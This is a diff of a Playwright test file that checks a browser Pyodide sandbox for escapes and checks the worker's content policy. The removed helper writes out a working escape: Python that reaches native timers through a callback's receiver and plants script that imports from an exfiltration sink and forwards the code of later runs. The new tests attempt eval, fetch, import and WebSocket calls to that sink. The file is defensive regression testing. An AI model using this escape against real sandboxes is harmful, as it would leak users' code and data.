@@ -1,7 +1,9 @@
 import type { Page } from '@playwright/test';
 import type { PythonRunResult } from '../../tools/python/types.ts';
+import { installedPyodideVersion } from '../../server/securityHeaders.ts';
 import { expect, test } from '../support/test.ts';
-import { evaluateInWorker, installHeartbeat, longestStallMs, startExfiltrationSink, type ExfiltrationSink } from './support.ts';
+import { timerReceiverEscape } from './attacks.ts';
+import { installHeartbeat, longestStallMs, startExfiltrationSink, WorkerInspector, type ExfiltrationSink } from './support.ts';
 
 // The Python sandbox (tools/python/) attacked as issue 8 found it open: code schedules a callback
 // whose receiver is the worker's global object, reads the native setTimeout off its prototype
@@ -9,40 +11,17 @@ import { evaluateInWorker, installHeartbeat, longestStallMs, startExfiltrationSi
 // hook that read the code of later runs. Driven through the harness page in the production build.
 
 const HARNESS = '/e2e/harness/python.html';
-
-/** Python that, from a timer callback, climbs the receiver's prototype chain to every native timer
- * it can find and hands each a string of script: a dynamic import to the sink, and a message
- * listener that sends the sink the code of every later run. */
-export function timerReceiverEscape(sinkUrl: string): string {
-  const planted = `self.addEventListener('message', (e) => import('${sinkUrl}/later-run?' + encodeURIComponent(JSON.stringify(e.data))))`;
-  const script = `import('${sinkUrl}/escaped'); ${planted}`;
-  return [
-    'import pyodide.webloop',
-    'from pyodide.ffi import create_proxy, to_js',
-    'Object = to_js({}).constructor',
-    `SCRIPT = ${JSON.stringify(script)}`,
-    'def climb(this, *args):',
-    '    owner = this',
-    '    for _ in range(10):',
-    '        for name in ("setTimeout", "setInterval"):',
-    '            try:',
-    '                found = Object.getOwnPropertyDescriptor(owner, name)',
-    '                found.value.call(this, SCRIPT, 0)',
-    '            except Exception:',
-    '                pass',
-    '        try:',
-    '            owner = Object.getPrototypeOf(owner)',
-    '        except Exception:',
-    '            return',
-    'pyodide.webloop.scheduleCallback(create_proxy(climb, capture_this=True), 5)',
-    'print("scheduled")',
-  ].join('\n');
-}
+const PYODIDE_VERSION = installedPyodideVersion();
 
 /** Evaluates `expression` in the Python worker booted and waiting for code (the runner's spare). */
 async function inSpareWorker<T>(page: Page, expression: string): Promise<T> {
   expect(await page.evaluate(() => window.pythonHarness.warmUp())).toMatchObject({ ready: true });
-  return evaluateInWorker<T>(page, 'python.worker', expression);
+  const inspector = await WorkerInspector.attach(page);
+  try {
+    return await inspector.evaluate<T>('python.worker', expression);
+  } finally {
+    await inspector.detach();
+  }
 }
 
 function run(page: Page, code: string, timeoutMs = 20_000): Promise<PythonRunResult> {
@@ -125,5 +104,83 @@ test.describe('Python sandbox under attack', () => {
       })()`,
     );
     expect(outcome).toEqual({ refused: 'TypeError: Timers take a function in the Python sandbox', receiver: 'none', ran: false });
+  });
+
+  test('layer: the worker script’s own policy refuses code from strings and any connection but the app and the package CDN', async () => {
+    // A second worker from the same script, never sent `init`: Pyodide not loaded, nothing locked
+    // down, so only the policy served with the script stands between its globals and the network.
+    const workerUrl = page.workers().find((worker) => worker.url().includes('python.worker'))?.url();
+    if (!workerUrl) throw new Error('no Python worker is running');
+    const probeUrl = `${workerUrl}?policy-probe`;
+    const inspector = await WorkerInspector.attach(page);
+    await page.route('https://cdn.jsdelivr.net/**', (route) =>
+      route.fulfill({ status: 404, headers: { 'access-control-allow-origin': '*' }, body: 'no such package' }),
+    );
+    try {
+      await page.evaluate((url) => {
+        (window as unknown as { probe: Worker }).probe = new Worker(url, { type: 'module' });
+      }, probeUrl);
+      const outcome = await inspector.evaluate<Record<string, string>>(
+        'policy-probe',
+        `(async () => {
+          const sink = ${JSON.stringify(sink.url)};
+          const attempt = async (action) => { try { return String(await action()); } catch (error) { return 'refused: ' + error.name; } };
+          // Code evaluated through DevTools may eval; a timer's callback runs as the worker's own code.
+          const later = (action) => new Promise((resolve) => setTimeout(() => attempt(action).then(resolve), 0));
+          const settles = (target) => new Promise((resolve) => {
+            target.onopen = () => resolve('opened');
+            target.onerror = () => resolve('refused: error event');
+          });
+          const wasm = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
+          const report = {
+            eval: await later(() => eval('1 + 1')),
+            Function: await later(() => new Function('return 1')()),
+            import: await attempt(() => import(sink + '/policy-import.js')),
+            fetch: await attempt(() => fetch(sink + '/policy-fetch').then((response) => response.status)),
+            WebSocket: await attempt(() => settles(new WebSocket(sink.replace('http', 'ws') + '/policy-socket'))),
+            Worker: await attempt(() => settles(new Worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))))),
+            otherCdnFolder: await attempt(() => fetch('https://cdn.jsdelivr.net/pyodide/v0.1.0/full/x.whl').then((response) => response.status)),
+            packageCdn: await attempt(() => fetch(${JSON.stringify(`https://cdn.jsdelivr.net/pyodide/v${PYODIDE_VERSION}/full/x.whl`)}).then((response) => response.status)),
+            app: await attempt(() => fetch('/pyodide/pyodide-lock.json').then((response) => response.status)),
+            wasm: await attempt(() => WebAssembly.compile(wasm).then(() => 'compiled')),
+          };
+          setTimeout('self.stringTimerRan = true', 0);
+          await new Promise((resolve) => setTimeout(resolve, 200));
+          report.stringTimer = self.stringTimerRan === true ? 'ran' : 'did not run';
+          return report;
+        })()`,
+      );
+      expect(outcome).toEqual({
+        eval: 'refused: EvalError',
+        Function: 'refused: EvalError',
+        import: 'refused: TypeError',
+        fetch: 'refused: TypeError',
+        WebSocket: 'refused: error event',
+        Worker: 'refused: error event',
+        otherCdnFolder: 'refused: TypeError',
+        packageCdn: '404',
+        app: '200',
+        wasm: 'compiled',
+        stringTimer: 'did not run',
+      });
+      expect(inspector.violations().length).toBeGreaterThanOrEqual(8);
+    } finally {
+      await page.evaluate(() => (window as unknown as { probe: Worker }).probe.terminate());
+      await page.unroute('https://cdn.jsdelivr.net/**');
+      await inspector.detach();
+    }
+  });
+
+  test('Pyodide boots and runs under that policy, with no violation', async () => {
+    const inspector = await WorkerInspector.attach(page);
+    try {
+      const result = await run(page, 'import json, math\nprint(json.dumps({"pi": round(math.pi, 5)}))');
+      expect(result).toMatchObject({ stdout: '{"pi": 3.14159}\n', error: null });
+      // The spare that boots after the run, under the same policy.
+      expect(await page.evaluate(() => window.pythonHarness.warmUp())).toMatchObject({ ready: true });
+      expect(inspector.violations()).toEqual([]);
+    } finally {
+      await inspector.detach();
+    }
   });
 });
